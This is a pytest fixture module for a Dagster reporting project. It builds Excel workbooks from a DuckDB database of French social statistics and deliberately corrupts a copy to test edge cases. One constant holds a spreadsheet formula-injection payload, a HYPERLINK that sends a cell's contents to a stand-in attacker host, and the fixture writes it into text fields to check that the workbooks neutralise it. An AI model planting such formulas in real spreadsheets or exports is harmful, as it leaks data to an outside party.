"""The workbooks of the published release; and one release made worse, for what the present one has not."""

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest

from dagster_project.release.pages import WORKBOOKS
from dagster_project.report.marts import Marts
from dagster_project.report.workbooks import build_workbooks
from dagster_project.settings import Settings
from tests.release.publishing import copy_of

FORMULA = '=HYPERLINK("http://attaquant.example/?"&A1;"cliquez")'


@dataclass(frozen=True)
class Workbooks:
    """Every workbook of a release, and the marts they say they show."""

    folder: Path
    marts: Marts

    def of(self, code: str) -> Path:
        (found,) = self.folder.glob(f"bilan-*{code}-*.xlsx")
        return found

    @property
    def all(self) -> list[Path]:
        return sorted(self.folder.glob("*.xlsx"))


@pytest.fixture(scope="session")
def workbooks(published: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workbooks]:
    folder = published.served.resolve().parent / WORKBOOKS
    with Marts.opened(copy_of(published, tmp_path_factory.mktemp("marts"))) as marts:
        yield Workbooks(folder, marts)


@pytest.fixture(scope="session")
def troubled(published: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workbooks]:
    """Masked, missing, provisional, broken, printed as a range; texts that would be formulas; a code of two levels."""
    folder = tmp_path_factory.mktemp("troubled")
    database = folder / "bilan.duckdb"
    shutil.copyfile(published.served.resolve(), database)
    with duckdb.connect(str(database)) as connection:
        for statement in _TROUBLES:
            connection.execute(statement, [FORMULA] if "?" in statement else [])
    build_workbooks(database, folder / "classeurs")
    with Marts.opened(database) as marts:
        yield Workbooks(folder / "classeurs", marts)


_MONTH = "territory_level = 'departement' and territory_code = '30' and benefit = 'rsa' and month"
_TROUBLES = (
    *(
        f"insert into marts.beneficiaries select territory_level, territory_code, territory_name, date '{month}', "
        f"'{month[:7]}', benefit, beneficiaries + {add}, unit, marker, '{status}', conf_status, dataset, edition, "
        f"known_from from marts.beneficiaries where {_MONTH} = date '2019-12-01'"
        for month, add, status in (
            ("2020-12-01", 10, "A"), ("2021-12-01", 20, "A"), ("2022-12-01", 30, "A"), ("2023-12-01", 40, "A"),
            ("2024-12-01", 50, "P"),
        )
    ),
    f"update marts.beneficiaries set beneficiaries = null, conf_status = 'C' where {_MONTH} = date '2020-12-01'",
    "insert into marts.series_break values ('rsa_recipients', date '2023-01-01', 'Réforme du RSA')",
    "update marts.unemployment_rate set unemployment_rate_pct = null, unemployment_rate_lower_pct = 5.1, "
    "unemployment_rate_upper_pct = 6.1 where territory_code = '30'",
    "update marts.poverty_rate set poverty_rate_pct = null, obs_status = 'M' where territory_code = '30' "
    "and year = 2021",
    "update marts.local_action set title = ? where list_contains(string_split(territory_codes, ';'), '30')",
    "update marts.key_figure set indicator_label_fr = ? where territory_code = '30' and indicator_code is null",
    "insert into marts.poverty_rate select territory_level, '76', 'Seine-Maritime', year, population_group, "
    "threshold_pct, generation, poverty_rate_pct, poverty_rate_lower_pct, poverty_rate_upper_pct, censored, "
    "median_living_standard_eur_per_year, obs_status, conf_status, dataset, edition, known_from, median_dataset, "
    "median_edition from marts.poverty_rate where territory_level = 'departement' and territory_code = '31'",
)  # fmt: skip
